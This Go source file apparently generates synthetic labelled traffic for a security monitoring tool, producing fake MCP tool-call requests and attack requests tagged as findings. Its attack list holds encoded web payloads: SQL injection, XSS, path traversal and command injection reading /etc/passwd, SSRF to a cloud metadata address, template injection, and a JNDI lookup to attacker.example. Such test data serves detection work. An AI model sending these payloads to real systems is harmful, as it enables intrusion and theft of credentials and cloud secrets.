package generate

import (
	"math/rand/v2"
	"net/http"
	"strings"

	"sojourn/internal/record"
)

var operations = func() (all []string) {
	for _, noun := range []string{"Cart", "Product", "Order", "User", "Review", "Address", "Price", "Stock", "Category", "Shipment"} {
		all = append(all, "query get"+noun, "query list"+noun+"s", "mutation update"+noun, "mutation delete"+noun)
	}
	return all
}()

var tools = func() (all []string) {
	for _, noun := range []string{"opportunity", "contact", "invoice", "ticket", "report", "calendar", "file", "note"} {
		all = append(all, "get_"+noun, "search_"+noun+"s", "create_"+noun, "update_"+noun)
	}
	return all
}()

const (
	invalidParams = -32602 // JSON-RPC 2.0
	shareRefused  = 0.012
)

// speak writes down a message of MCP to h.
func (p *page) speak(r *record.Request, by *session, h *host, rng *rand.Rand) {
	r.Method, r.Path, r.Endpoint = http.MethodPost, "/mcp", "/mcp"
	m := record.MCP{Server: mcpServers[h.name], Client: by.mcp, Generation: by.since, Trace: by.trace}
	switch n := rng.IntN(100); {
	case n < 78:
		m.Method, m.Name = "tools/call", tools[skewed(rng, len(tools))]
	case n < 87:
		m.Method = "tools/list"
	case n < 95:
		m.Method, m.Name = "resources/read", "crm://accounts/"+by.trace[:2]
	default:
		m.Method, m.Name = "prompts/get", "summarize"
	}
	if rng.Float64() < shareRefused {
		m.Error = invalidParams
	}
	p.messages = append(p.messages, m)
	r.MCP = &p.messages[len(p.messages)-1] // there is room for one of each request
}

var mcpServers = map[string]string{"mcp.example.com": "mcp.example.com/mcp", "crm.example.com": "crm.example.com/mcp"}

// attacks are drawn from, the first ones more often.
var attacks = []struct{ name, query string }{
	{"sqli", "id=1%27%20OR%20%271%27%3D%271%27--"},
	{"sqli", "q=x%27%20UNION%20SELECT%20null%2Cversion()--"},
	{"xss", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"},
	{"path_traversal", "file=..%2F..%2F..%2Fetc%2Fpasswd"},
	{"command_injection", "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"},
	{"ssrf", "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"},
	{"template_injection", "name=%7B%7B7*7%7D%7D"},
	{"jndi", "x=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"},
}

// attack makes r an attack, with what was found about it.
func (p *page) attack(r *record.Request, rng *rand.Rand) span {
	a := attacks[skewed(rng, len(attacks))]
	from := len(p.text)
	p.text = append(p.text, a.query...)
	if rng.Float64() < shareBlocked {
		r.Status, r.Accepted, r.Flags = http.StatusForbidden, false, onlyBlock
	}
	name, _, _ := strings.Cut(a.query, "=")
	at := len(p.findings)
	p.findings = append(p.findings, record.Finding{
		ID: r.ID.String() + "-" + a.name, Request: r.ID, Session: r.Session, Started: r.Started, Type: a.name, Attack: true,
		Detail: `request.query["` + name + `"]`,
	})
	r.Findings = p.findings[at : at+1 : at+1]
	return span{from, len(p.text)}
}
